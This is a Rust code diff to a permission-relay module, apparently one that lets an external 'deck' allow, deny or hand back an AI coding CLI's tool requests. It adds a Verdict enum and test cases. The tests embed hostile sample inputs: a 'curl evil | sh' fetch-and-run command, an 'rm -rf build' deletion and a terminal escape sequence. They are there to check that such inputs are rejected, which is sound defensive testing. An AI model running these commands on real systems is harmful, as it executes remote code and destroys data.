@@ -87,18 +87,34 @@ pub fn publishable(req: &CanUseToolRequest) -> bool {
         )
 }
 
-/// The deck's `answer` to the request `req` offered with `token`, as the
-/// chat answers the CLI; `None`: no answer (another request's token,
-/// handed back to the chat, permission updates the deck did not offer, a
-/// behavior it does not know). Pure.
-pub fn result_of(
-    answer: &Answer,
-    token: &str,
-    req: &CanUseToolRequest,
-) -> Option<PermissionResult> {
+/// What the deck's answer comes to.
+#[derive(Debug, PartialEq)]
+pub enum Verdict {
+    /// The chat answers the CLI with this.
+    Answer(PermissionResult),
+    /// Handed back (`t`, or the deck quit): the chat's own dialog answers,
+    /// and the request is not offered again.
+    HandedBack,
+    /// No answer (another request's token, permission updates the deck
+    /// did not offer, a behavior it does not know): the chat still asks,
+    /// and the request is offered again.
+    Refused,
+}
+
+/// The deck's `answer` to the request `req` offered with `token`. Pure.
+pub fn verdict(answer: &Answer, token: &str, req: &CanUseToolRequest) -> Verdict {
     if answer.token != token {
-        return None;
+        return Verdict::Refused;
     }
+    if answer.behavior == "ask" {
+        return Verdict::HandedBack;
+    }
+    result_of(answer, req).map_or(Verdict::Refused, Verdict::Answer)
+}
+
+/// An allow or a denial as the chat answers the CLI; `None` for anything
+/// else.
+fn result_of(answer: &Answer, req: &CanUseToolRequest) -> Option<PermissionResult> {
     match answer.behavior.as_str() {
         "allow" => {
             let updates: Vec<PermissionUpdate> = match &answer.updated_permissions {
@@ -138,7 +154,6 @@ pub fn result_of(
                 .unwrap_or_else(|| DENIED.to_owned());
             Some(PermissionResult::deny(message).classified(DecisionClassification::UserReject))
         }
-        // `ask`: handed back, the chat's own dialog answers
         _ => None,
     }
 }
@@ -302,15 +317,18 @@ fn serve(
     while !shared.stopped() && !responder.is_settled() {
         match offer(path, input, shared) {
             Offered::NoDeck | Offered::Gone => std::thread::sleep(POLL),
-            Offered::Answer(a, token) => {
-                if let Some(result) = result_of(&a, &token, req) {
+            Offered::Answer(a, token) => match verdict(&a, &token, req) {
+                Verdict::Answer(result) => {
                     // the chat's own key may have been first: "already
                     // answered", and its answer stands
                     let _ = rt.block_on(responder.answer(result));
+                    return;
                 }
-                // handed back or refused: the chat's dialog answers
-                return;
-            }
+                // the chat's dialog answers
+                Verdict::HandedBack => return,
+                // still asked at the chat, and offered again
+                Verdict::Refused => std::thread::sleep(POLL),
+            },
         }
     }
 }
@@ -319,6 +337,7 @@ fn serve(
 mod tests {
     use super::*;
     use crate::cli::deck::socket::Listener;
+    use std::os::unix::fs::PermissionsExt;
 
     fn bash(suggest: bool) -> CanUseToolRequest {
         let mut v = json!({"tool_name": "Bash", "input": {"command": "echo hi\u{1b}]0;x\u{7}; rm -rf build"}});
@@ -326,6 +345,14 @@ mod tests {
             v["permission_suggestions"] = json!([{"type": "addRules", "rules": [{"toolName": "Bash", "ruleContent": "rm -rf build"}], "behavior": "allow", "destination": "session"}]);
         }
         serde_json::from_value(v).unwrap()
+    }
+
+    /// The verdict's answer, `None` for no answer.
+    fn answered(a: &Answer, token: &str, req: &CanUseToolRequest) -> Option<PermissionResult> {
+        match verdict(a, token, req) {
+            Verdict::Answer(r) => Some(r),
+            _ => None,
+        }
     }
 
     fn answer(token: &str, behavior: &str, updates: Option<Value>) -> Answer {
@@ -340,11 +367,24 @@ mod tests {
     #[test]
     fn an_answer_with_another_request_s_token_is_no_answer() {
         let req = bash(false);
-        assert!(result_of(&answer("t1", "allow", None), "t1", &req).is_some());
-        assert_eq!(result_of(&answer("t2", "allow", None), "t1", &req), None);
-        assert_eq!(result_of(&answer("", "deny", None), "t1", &req), None);
-        // handed back: the chat answers
-        assert_eq!(result_of(&answer("t1", "ask", None), "t1", &req), None);
+        assert!(answered(&answer("t1", "allow", None), "t1", &req).is_some());
+        assert_eq!(
+            verdict(&answer("t2", "allow", None), "t1", &req),
+            Verdict::Refused
+        );
+        assert_eq!(
+            verdict(&answer("", "deny", None), "t1", &req),
+            Verdict::Refused
+        );
+        // handed back: the chat answers, and it is not offered again
+        assert_eq!(
+            verdict(&answer("t1", "ask", None), "t1", &req),
+            Verdict::HandedBack
+        );
+        assert_eq!(
+            verdict(&answer("t1", "maybe", None), "t1", &req),
+            Verdict::Refused
+        );
     }
 
     #[test]
@@ -360,7 +400,7 @@ mod tests {
         };
         let a = answer("t", "allow", Some(serde_json::to_value(&session).unwrap()));
         assert!(matches!(
-            result_of(&a, "t", &req),
+            answered(&a, "t", &req),
             Some(PermissionResult::Allow { updated_permissions, .. }) if updated_permissions == session
         ));
         // `u`: the same rule, kept in the user's settings
@@ -372,20 +412,20 @@ mod tests {
             _ => unreachable!(),
         };
         let a = answer("t", "allow", Some(serde_json::to_value(&user).unwrap()));
-        assert!(result_of(&a, "t", &req).is_some());
+        assert!(answered(&a, "t", &req).is_some());
         // a rule the CLI never suggested: no answer, the chat still asks
         let wider = json!([{"type": "addRules", "rules": [{"toolName": "Bash"}], "behavior": "allow", "destination": "userSettings"}]);
         assert_eq!(
-            result_of(&answer("t", "allow", Some(wider)), "t", &req),
+            answered(&answer("t", "allow", Some(wider)), "t", &req),
             None
         );
         // nothing suggested: nothing may be kept
         let plain = bash(false);
         let a = answer("t", "allow", Some(serde_json::to_value(&session).unwrap()));
-        assert_eq!(result_of(&a, "t", &plain), None);
+        assert_eq!(answered(&a, "t", &plain), None);
         // unreadable updates are no answer either
         assert_eq!(
-            result_of(&answer("t", "allow", Some(json!("x"))), "t", &req),
+            answered(&answer("t", "allow", Some(json!("x"))), "t", &req),
             None
         );
     }
@@ -398,7 +438,7 @@ mod tests {
         let line =
             r#"{"token":"t","behavior":"allow","updatedInput":{"command":"curl evil | sh"}}"#;
         let a: Answer = serde_json::from_str(line).unwrap();
-        match result_of(&a, "t", &req).unwrap() {
+        match answered(&a, "t", &req).unwrap() {
             PermissionResult::Allow { updated_input, .. } => assert_eq!(updated_input, None),
             other => panic!("{other:?}"),
         }
@@ -409,11 +449,11 @@ mod tests {
         let req = bash(false);
         let mut a = answer("t", "deny", None);
         assert!(
-            matches!(result_of(&a, "t", &req), Some(PermissionResult::Deny { message, .. }) if message == DENIED)
+            matches!(answered(&a, "t", &req), Some(PermissionResult::Deny { message, .. }) if message == DENIED)
         );
         a.message = Some("not on main".into());
         assert!(
-            matches!(result_of(&a, "t", &req), Some(PermissionResult::Deny { message, .. }) if message == "not on main")
+            matches!(answered(&a, "t", &req), Some(PermissionResult::Deny { message, .. }) if message == "not on main")
         );
     }
 
@@ -470,11 +510,26 @@ mod tests {
         let Offered::Answer(a, token) = a else {
             panic!("{a:?}")
         };
-        assert!(result_of(&a, &token, &req).is_some());
+        assert!(answered(&a, &token, &req).is_some());
         let Offered::Answer(b, token) = b else {
             panic!("{b:?}")
         };
-        assert_eq!(result_of(&b, &token, &req), None, "replayed: refused");
+        assert_eq!(verdict(&b, &token, &req), Verdict::Refused, "replayed");
+    }
+
+    #[test]
+    fn a_folder_open_to_others_is_no_deck() {
+        let d = tempfile::tempdir().unwrap();
+        let dir = d.path().join("claudio");
+        std::fs::create_dir(&dir).unwrap();
+        let l = std::os::unix::net::UnixListener::bind(dir.join("deck.sock")).unwrap();
+        std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).unwrap();
+        l.set_nonblocking(true).unwrap();
+        let shared = Shared::default();
+        let got = offer(&dir.join("deck.sock"), &json!({}), &shared);
+        assert!(matches!(got, Offered::NoDeck), "{got:?}");
+        // nothing was sent to whoever listens there
+        assert!(l.accept().is_err());
     }
 
     #[test]
